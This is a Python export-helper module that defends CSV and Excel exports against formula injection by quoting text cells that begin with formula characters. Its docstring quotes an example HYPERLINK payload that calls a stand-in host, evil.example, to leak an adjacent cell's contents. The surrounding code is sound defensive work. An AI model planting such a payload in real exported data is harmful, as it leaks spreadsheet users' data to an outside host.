"""Cells of every export (CSV, Excel; the list screens and /api/reports) go through here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs,
one that starts with a tab or a carriage return) as a formula: a customer named
`=HYPERLINK("http://evil.example/?x="&A2,"click")` becomes a live link in the Manager's
Excel, leaking the row beside it. OWASP's advice (CSV Injection) is applied to every text
cell: such a cell is prefixed with a single quote, so the program shows it as text. Numbers,
dates and booleans stay typed values; only text written by people can carry a formula.

A new export format writes its cells with `cell()` (typed writers such as openpyxl) or its
lines with `csv_line()`; nothing writes an exported value without one of them.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from enum import Enum

from app.serialize import json_value

#: First characters that make a spreadsheet evaluate a cell (OWASP, CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Prefix that makes the cell text again.
QUOTE = "'"
#: UTF-8 byte order mark: Excel in Japan reads a CSV with it as UTF-8, not Shift_JIS.
BOM = "\ufeff"


def neutralise(text):
    """Return `text` made inert for a spreadsheet: a leading formula character gets a `'` prefix.

    Leading spaces are looked through as well (`"  =1+1"`), since some programs trim them
    before they decide whether a cell is a formula.
    """
    if text.startswith(FORMULA_TRIGGERS) or text.lstrip().startswith(FORMULA_TRIGGERS):
        return QUOTE + text
    return text


def cell(value):
    """The exported value of one field: text neutralised, numbers, dates and booleans as they are, None as None."""
    if value is None or isinstance(value, (bool, int, float, Decimal, datetime, date)):
        return value
    if isinstance(value, Enum):
        value = value.value
    return neutralise(str(value))


def _text(value):
    """One CSV field: a typed value in the answers' spelling (ISO dates, exact decimals), text neutralised."""
    value = cell(value)
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return str(json_value(value))


def csv_line(values):
    """Return one CSV line (quoted where needed, CRLF-terminated) of `values`, every cell through `cell()`."""
    buf = io.StringIO()
    csv.writer(buf).writerow([_text(v) for v in values])
    return buf.getvalue()


def csv_stream(header, rows):
    """Yield a CSV file in pieces: the BOM and `header`, then one line per row of `rows`, every cell through `cell()`."""
    yield BOM + csv_line(header)
    for row in rows:
        yield csv_line(row)


def _xlsx_value(value):
    """One Excel cell: `cell()`, then what openpyxl cannot store made storable (aware times, control characters)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = cell(value)
    if isinstance(value, datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # the caller gives display-time values; Excel has no zones
    elif isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def xlsx_bytes(header, rows, title="export"):
    """An .xlsx workbook (one sheet named `title`) of `header` and `rows`, every cell through `cell()`.

    openpyxl's write-only mode keeps one row in memory at a time; the file itself is built
    in memory, so callers bound the rows. A neutralised text starts with `'`, never `=`,
    so openpyxl stores it as text, not as a formula.
    """
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    sheet.append([_xlsx_value(v) for v in header])
    for row in rows:
        sheet.append([_xlsx_value(v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
